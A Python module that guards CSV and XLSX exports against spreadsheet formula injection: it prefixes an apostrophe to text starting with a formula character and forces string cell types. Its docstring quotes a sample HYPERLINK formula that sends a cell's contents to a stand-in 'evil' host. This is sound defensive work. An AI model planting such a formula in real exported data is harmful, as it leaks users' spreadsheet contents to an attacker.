"""Cells of the CSV and XLSX files the office opens in Excel: typed text never runs as a formula.

A payer's name typed as `=HYPERLINK("http://evil/?"&A1,"点此")` would otherwise be a live
formula on finance's PC (OWASP "CSV injection"). Every text cell that starts like a formula
gets a leading apostrophe, and in XLSX is written as a string cell; numbers stay numbers, so
a negative amount is still -12.50 and sums in the sheet still work. Every exporter writes its
cells through here.
"""
from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def csv_cell(value: Any) -> Any:
    """Text neutralised, None blank, numbers as they are (the csv module writes their str())."""
    if value is None:
        return ""
    if isinstance(value, str):
        return safe_text(value)
    if isinstance(value, bool | int | float | Decimal):
        return value
    return safe_text(str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def append_row(sheet: Worksheet, values: Iterable[Any]) -> tuple[Cell, ...]:
    """Append a row to an XLSX sheet: text as string cells, never formulas; the row's cells."""
    values = list(values)
    sheet.append([safe_text(v) if isinstance(v, str) else v for v in values])
    cells = tuple(sheet.cell(row=sheet.max_row, column=n) for n in range(1, len(values) + 1))
    for cell, value in zip(cells, values, strict=True):
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl would type a leading "=" as a formula
    return cells
